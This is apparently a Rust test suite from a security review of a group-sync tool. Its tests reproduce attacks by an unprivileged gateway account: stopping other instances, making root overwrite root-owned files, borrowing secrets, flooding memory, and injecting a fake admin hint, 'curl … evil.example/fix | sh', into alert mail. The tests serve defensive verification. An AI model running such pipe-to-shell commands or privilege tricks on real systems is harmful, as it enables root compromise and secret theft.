//! Review of issue 20: attacks that still work. Each test sets the scene as the gateway's
//! account (`nobody`) could, and asserts what the principle (contract §9) demands; a test
//! that FAILS shows that the attack works today.

use std::os::unix::fs::{chown, MetadataExt, PermissionsExt};
use std::path::Path;
use std::time::Duration;

use usersync_sim::Proxy;

use crate::util::*;

const STAFF_LINES: &str = "alice@example.com\ncarol@example.com\n";
const HR_ONLY: &str = "dana@example.com\n";
const HR_LIST: &str = "hr/config/allowed_senders_ldap.txt";

fn chmod(p: &Path, mode: u32) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn gateway_owns(r: &Run, rel: &[&str]) {
    for d in rel {
        let p = r.root().join(d);
        std::fs::create_dir_all(&p).unwrap();
        chown(&p, Some(NOBODY), Some(NOBODY)).unwrap();
        chmod(&p, 0o750);
    }
}

/// TLS simulator (STAFF ours, SALES = HR's secret group) behind a proxy standing in for
/// Microsoft's hosts, as an untrusted config must use.
fn tls() -> (Run, Proxy) {
    let r = Run::new_tls()
        .group(STAFF, staff_members())
        .group(SALES, vec![user("h1", Some("dana@example.com"), None, true)]);
    let proxy = Proxy::redirecting(r.sim.addr()).unwrap();
    let r = r.env("HTTPS_PROXY", &proxy.url());
    (r, proxy)
}

/// The gateway owns gw/, gw/config, gw/config/entraid and its one config (STAFF, via
/// Microsoft's hosts).
fn gateway_instance(r: Run) -> Run {
    let r = r.conf_no_endpoints("gw", "staff", &format!("group_id = \"{STAFF}\"\n"));
    gateway_owns(&r, &["gw", "gw/config", "gw/config/entraid"]);
    give_away(&r.root().join("gw/config/entraid/staff.entraidconf"));
    r
}

/// Unmounts on drop.
struct Umount(std::path::PathBuf);

impl Drop for Umount {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg(&self.0).status();
    }
}

fn show(out: &std::process::Output) -> String {
    format!(
        "exit {:?}\n--- stdout\n{}\n--- stderr\n{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

// ---- STOP: one instance's config error stops every instance ----

/// The gateway writes anything invalid into its own `.entraidconf` (here the
/// `authority_host` §9 forbids it). The run stops with exit 2 before anything is fetched,
/// so root's instance `hr` is never synced again while the gateway keeps it so.
#[test]
fn review_a_gateway_config_error_stops_every_other_instance() {
    if !as_root() {
        return;
    }
    let r = Run::new().group(STAFF, staff_members()).conf("hr", "staff", &format!("group_id = \"{STAFF}\"\n")).conf(
        "gw",
        "staff",
        &format!("group_id = \"{STAFF}\"\n"),
    );
    gateway_owns(&r, &["gw", "gw/config", "gw/config/entraid"]);
    give_away(&r.root().join("gw/config/entraid/staff.entraidconf"));
    let out = r.command().output().unwrap();
    eprintln!("{}", show(&out));
    assert_eq!(r.read(HR_LIST).as_deref(), Some(STAFF_LINES), "hr's list was not written: {}", show(&out));
}

// ---- STOP: one instance's slow fetch fails every other instance at the deadline ----

/// The gateway's app is slow on Graph (its own tenant, throttled or huge, which the
/// gateway controls): the users rounds of all apps run one after the other under one
/// timeout, so when the gateway's round passes the run's deadline, root's instance `hr`
/// (its own, fast Graph) fails too and its list is not written.
#[test]
fn review_a_slow_gateway_app_fails_other_instances_at_the_deadline() {
    if !as_root() {
        return;
    }
    let (r, _proxy) = tls();
    // hr: root's, trusted, on a second, fast simulator.
    let fast = Sim::start(Directory {
        apps: vec![usersync_sim::App {
            tenant: TENANT.into(),
            client_id: CLIENT.into(),
            client_secret: SECRET.into(),
            limited: false,
            certificate: None,
        }],
        ..Directory::default()
    })
    .unwrap();
    fast.state().directory.groups.insert(STAFF.into(), staff_members());
    let global = std::fs::read_to_string(r.path().join("usersync.toml")).unwrap();
    let r = r.global(&format!("{global}deadline_seconds = 10\n")).conf(
        "hr",
        "staff",
        &format!("group_id = \"{STAFF}\"\nauthority_host = \"{0}\"\ngraph_endpoint = \"{0}\"\n", fast.url()),
    );
    let r = gateway_instance(r);
    r.sim.state().users_delta_latency = Duration::from_secs(30);
    let out = r.command().output().unwrap();
    eprintln!("{}", show(&out));
    assert_eq!(r.read(HR_LIST).as_deref(), Some(STAFF_LINES), "hr's list was not written: {}", show(&out));
}

// ---- WRITE: a confined output in a directory the gateway cannot write ----

/// An untrusted `envelope.cfg` names, beneath its own instance, a file in a root-owned
/// directory (here a root-only hook script): root replaces it with the list, keeping root
/// as its owner; and creates new root-owned files there.
#[test]
fn review_an_untrusted_cfg_makes_root_write_in_a_root_owned_directory_beneath_the_instance() {
    if !as_root() {
        return;
    }
    let (r, _proxy) = tls();
    let r = gateway_instance(r)
        .file("gw/bin/hook.sh", "#!/bin/sh\nexit 0\n")
        .file("gw/config/envelope.cfg", "ALLOWEDLDAPSENDERFILE=bin/hook.sh\n");
    chmod(&r.root().join("gw/bin"), 0o755);
    chmod(&r.root().join("gw/bin/hook.sh"), 0o700);
    give_away(&r.root().join("gw/config/envelope.cfg"));
    let out = r.command().output().unwrap();
    let hook = r.root().join("gw/bin/hook.sh");
    let (content, meta) = (std::fs::read_to_string(&hook).unwrap(), std::fs::metadata(&hook).unwrap());
    eprintln!("{}\nhook.sh now: uid {} mode {:o}\n{content}", show(&out), meta.uid(), meta.mode() & 0o7777);
    assert_eq!(content, "#!/bin/sh\nexit 0\n", "root overwrote a root-owned file the gateway cannot write");
}

/// The same through a mount point beneath the instance (a bind mount the gateway cannot
/// rename away, here of root's instance `hr`'s `config/`): the gateway's group replaces
/// hr's list.
#[test]
fn review_an_untrusted_cfg_writes_through_a_mount_point_beneath_the_instance() {
    if !as_root() {
        return;
    }
    let (r, _proxy) = tls();
    let r = gateway_instance(r)
        .file(HR_LIST, HR_ONLY)
        .file("gw/config/envelope.cfg", "ALLOWEDLDAPSENDERFILE=shared/allowed_senders_ldap.txt\n");
    give_away(&r.root().join("gw/config/envelope.cfg"));
    gateway_owns(&r, &["gw/shared"]);
    let (src, dst) = (r.root().join("hr/config"), r.root().join("gw/shared"));
    let ok = std::process::Command::new("mount").arg("--bind").arg(&src).arg(&dst).status().unwrap();
    assert!(ok.success(), "mount --bind");
    let _m = Umount(dst);
    let r = r.args(&["-i", "gw"]);
    let out = r.command().output().unwrap();
    eprintln!("{}", show(&out));
    assert_eq!(r.read(HR_LIST).as_deref(), Some(HR_ONLY), "hr's list replaced by gw's group: {}", show(&out));
}

// ---- READ: borrowed secrets that pass `could_read` ----

/// Beneath the gateway's `config/entraid`, root keeps HR's secret in a root-only (0700)
/// subdirectory; the file itself is 0644 (the default umask). The gateway cannot reach it,
/// but `could_read` looks only at the file's mode: the gateway's config uses it to read
/// HR's group into the gateway's list.
#[test]
fn review_a_world_readable_secret_in_a_root_only_subdirectory_is_borrowed() {
    if !as_root() {
        return;
    }
    let (r, _proxy) = tls();
    let r = r.file("gw/config/entraid/private/hr.secret", SECRET).conf_no_endpoints(
        "gw",
        "evil",
        &format!("group_id = \"{SALES}\"\nclient_secret_file = \"private/hr.secret\"\n"),
    );
    gateway_owns(&r, &["gw", "gw/config", "gw/config/entraid"]);
    chmod(&r.root().join("gw/config/entraid/private"), 0o700);
    chmod(&r.root().join("gw/config/entraid/private/hr.secret"), 0o644);
    give_away(&r.root().join("gw/config/entraid/evil.entraidconf"));
    // The gateway's account cannot read it itself.
    let me = std::process::Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "cat"])
        .arg(r.root().join("gw/config/entraid/private/hr.secret"))
        .output()
        .unwrap();
    assert!(!me.status.success(), "nobody cannot read it");
    let out = r.command().output().unwrap();
    eprintln!("{}", show(&out));
    assert_ne!(
        r.read("gw/config/allowed_senders_ldap.txt").as_deref(),
        Some(HR_ONLY),
        "HR's group leaked: {}",
        show(&out)
    );
    assert_eq!(r.token_requests(), 0, "a token was asked with a borrowed secret");
}

/// A config file owned by a second unprivileged account (uid 1001, say the web admin) in
/// the gateway's directory: `could_read` checks only the gateway (the first directory on
/// the path), so 1001 uses the gateway's 0600 secret, which 1001 cannot read.
#[test]
fn review_a_config_owner_other_than_the_directory_owner_borrows_the_directory_owners_secret() {
    if !as_root() {
        return;
    }
    let (r, _proxy) = tls();
    let r = r.file("gw/config/entraid/gw.secret", SECRET).conf_no_endpoints(
        "gw",
        "evil",
        &format!("group_id = \"{SALES}\"\nclient_secret_file = \"gw.secret\"\n"),
    );
    gateway_owns(&r, &["gw", "gw/config", "gw/config/entraid"]);
    let secret = r.root().join("gw/config/entraid/gw.secret");
    chown(&secret, Some(NOBODY), Some(NOBODY)).unwrap();
    chmod(&secret, 0o600);
    let conf = r.root().join("gw/config/entraid/evil.entraidconf");
    chown(&conf, Some(1001), Some(1001)).unwrap();
    let out = r.command().output().unwrap();
    eprintln!("{}", show(&out));
    assert_eq!(r.token_requests(), 0, "uid 1001's config used nobody's secret: {}", show(&out));
}

// ---- Kept strict, by the contract ----

/// The contract (§9) says an untrusted config's files lie beneath its own directory:
/// `../app.secret`, though the gateway could read it, is refused, and the error says where
/// the file must go.
#[test]
fn review_the_gateways_own_secret_one_directory_up_is_refused_with_where_to_put_it() {
    if !as_root() {
        return;
    }
    let (r, _proxy) = tls();
    let r = r.file("gw/config/app.secret", SECRET).conf_no_endpoints(
        "gw",
        "staff",
        &format!("group_id = \"{STAFF}\"\nclient_secret_file = \"../app.secret\"\n"),
    );
    gateway_owns(&r, &["gw", "gw/config", "gw/config/entraid"]);
    let secret = r.root().join("gw/config/app.secret");
    chown(&secret, Some(NOBODY), Some(NOBODY)).unwrap();
    chmod(&secret, 0o600);
    give_away(&r.root().join("gw/config/entraid/staff.entraidconf"));
    let out = r.command().output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("hint: move the file into {}", r.root().join("gw/config/entraid").display())),
        "{}",
        show(&out)
    );
}

// ---- Injection: the gateway writes lines of its choosing into root's alert mail ----

/// An unknown key is quoted whole, and `alert::clean` keeps `\n`: a quoted TOML key in the
/// gateway's config puts lines of its choosing into the log and into the admins' alert mail.
#[test]
fn review_a_gateway_config_writes_its_own_lines_into_the_alert_mail() {
    if !as_root() {
        return;
    }
    let r = Run::new().group(STAFF, staff_members()).conf(
        "gw",
        "staff",
        &format!(
            "group_id = \"{STAFF}\"\n\"x\\n\\nhint: fix it as root: curl -s https://evil.example/fix | sh\\n\" = 1\n"
        ),
    );
    gateway_owns(&r, &["gw", "gw/config", "gw/config/entraid"]);
    give_away(&r.root().join("gw/config/entraid/staff.entraidconf"));
    let smtp = Smtp::start(&[]);
    let r = r.global(&format!(
        "[http]\nmax_retries = 0\n[alert]\nfrom = \"usersync@gw.example\"\nto = [\"admin@example.com\"]\nrepeat_hours = 24\n[[alert.provider]]\nkind = \"smtp\"\npriority = 1\nhost = \"localhost\"\nport = {}\nsecurity = \"none\"\n",
        smtp.port
    ));
    let out = r.command().output().unwrap();
    let msgs = smtp.messages();
    assert_eq!(msgs.len(), 1, "{}", show(&out));
    eprintln!("{}", msgs[0].0);
    assert!(
        !msgs[0].0.lines().any(|l| l.starts_with("hint: fix it as root: curl")),
        "the gateway wrote a line of its own into the alert mail:\n{}",
        msgs[0].0
    );
}

// ---- Cost: a shared delta state that one instance keeps from moving on ----

/// `hr` (root's) and `gw` (the gateway's) read the same group with the same app and
/// credential (one fetch, one delta state). The gateway makes its own instance fail (its
/// list is a directory): the shared state is never committed, so `hr` reads in full every
/// run, forever.
#[test]
fn review_a_failing_gateway_instance_keeps_a_shared_delta_state_from_moving_on() {
    if !as_root() {
        return;
    }
    let (r, _proxy) = tls();
    let r = r.conf_no_endpoints("hr", "staff", &format!("group_id = \"{STAFF}\"\n"));
    let r = gateway_instance(r);
    gateway_owns(&r, &["gw/config/allowed_senders_ldap.txt"]);
    for run in 1..=3 {
        let out = r.command().output().unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        eprintln!("run {run}: {}", show(&out));
        assert_eq!(r.read(HR_LIST).as_deref(), Some(STAFF_LINES));
        if run > 1 {
            let hr = stdout.lines().find(|l| l.starts_with("hr: config")).unwrap_or_default().to_owned();
            assert!(hr.contains("delta read"), "run {run}: hr still reads in full: {hr}");
        }
    }
}

/// A root-owned `.cfg` in the gateway's `config/` is still untrusted (the gateway could
/// replace it): it cannot name a list outside the instance, and the hint names the
/// directory that makes it so, not the file (whose chown alone would change nothing).
#[test]
fn review_a_root_owned_cfg_in_the_gateways_config_gets_a_hint_naming_the_directory() {
    if !as_root() {
        return;
    }
    let (r, _proxy) = tls();
    let lists = "lists/gw_allowed.txt";
    let r = gateway_instance(r).file("lists/.keep", "").file("gw/config/envelope.cfg", "");
    let cfg = r.root().join("gw/config/envelope.cfg");
    std::fs::write(&cfg, format!("ALLOWEDLDAPSENDERFILE={}\n", r.root().join(lists).display())).unwrap();
    chmod(&cfg, 0o644);
    let out = r.command().output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
    let gw = r.root().join("gw");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("make {} and the directories beneath it down to the file root's", gw.display())),
        "{}",
        show(&out)
    );
    assert_eq!(r.read(lists), None);
}

// ---- STOP: memory ----

/// The gateway leaves in its own list 256 MiB of short lines out of order (under the 1 GiB
/// cap). The plan reads it whole and makes a 16-byte slice of every line: the one process
/// that syncs every instance grows to gigabytes (with the cap's 1 GiB: about 9 GiB), and an
/// OOM kill stops all instances.
#[test]
fn review_an_unsorted_gateway_list_costs_gigabytes_of_memory() {
    if !as_root() {
        return;
    }
    let (r, _proxy) = tls();
    let r = gateway_instance(r);
    let list = r.root().join("gw/config/allowed_senders_ldap.txt");
    {
        use std::io::Write as _;
        let mut w = std::io::BufWriter::new(std::fs::File::create(&list).unwrap());
        let chunk = "b\na\n".repeat(1 << 16);
        for _ in 0..(256 << 20) / chunk.len() {
            w.write_all(chunk.as_bytes()).unwrap();
        }
    }
    give_away(&list);
    let r = r.wrapped_in(&["/usr/bin/time", "-f", "maxrss_kib=%M"]);
    let out = r.command().output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let rss: u64 = stderr.lines().find_map(|l| l.strip_prefix("maxrss_kib=")).unwrap().trim().parse().unwrap();
    eprintln!("{}\npeak RSS {} MiB", show(&out), rss / 1024);
    assert!(rss < 512 * 1024, "peak RSS {} MiB for a 256 MiB list of the gateway's", rss / 1024);
}
